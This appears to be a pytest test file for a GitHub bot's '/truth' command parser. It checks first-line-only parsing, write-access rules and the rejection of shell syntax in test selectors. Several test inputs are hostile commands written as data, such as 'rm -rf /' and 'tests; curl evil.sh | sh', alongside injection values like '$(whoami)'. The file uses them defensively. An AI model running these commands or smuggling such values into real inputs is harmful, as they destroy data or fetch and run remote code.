"""Command parsing: the first line only; quotes, code and second lines never run anything."""

from __future__ import annotations

import pytest

from bot.github.commands import Command, CommandRejected, has_skip_label, parse_command


def test_the_first_line_is_the_command_and_only_it_carries_arguments() -> None:
    command = parse_command("/truth fix tests/test_a.py::test_one\nrm -rf /\nthanks!")
    assert command == Command("fix", "tests/test_a.py::test_one")
    assert parse_command("/truth fix\ntests/test_b.py") == Command("fix", None)


def test_a_command_further_down_or_inside_quotes_and_code_is_ignored() -> None:
    for body in (
        "Looks good.\n/truth fix",
        "> /truth fix\nquoting the bot",
        "```\n/truth fix\n```",
        "`/truth fix` is how you ask",
        "    /truth fix",
        "/truthful remark",
    ):
        assert parse_command(body) is None, body


def test_bare_unknown_and_known_names() -> None:
    assert parse_command("/truth") == Command("help")
    assert parse_command("  /truth   RETRY  ") == Command("retry")
    unknown = parse_command("/truth deploy now")
    assert unknown is not None and not unknown.known
    assert parse_command("/truth skip") == Command("skip")


def test_help_is_open_to_anyone_and_the_rest_need_write_access() -> None:
    assert not Command("help").needs_write_access
    assert Command("fix").needs_write_access and Command("skip").needs_write_access
    assert not Command("deploy").needs_write_access  # unknown: answered with help


def test_a_selector_with_shell_syntax_is_refused_with_what_to_write() -> None:
    assert Command("fix", "tests/t.py::test_x[1-2]").test_selector() == "tests/t.py::test_x[1-2]"
    for bad in ("tests; curl evil.sh | sh", "$(whoami)", "--rootdir=/", "a && b"):
        with pytest.raises(CommandRejected, match="not a test selector"):
            Command("fix", bad).test_selector()


def test_the_skip_label() -> None:
    assert has_skip_label([{"name": "bug"}, {"name": "truth:skip"}])
    assert not has_skip_label([{"name": "bug"}]) and not has_skip_label(None)
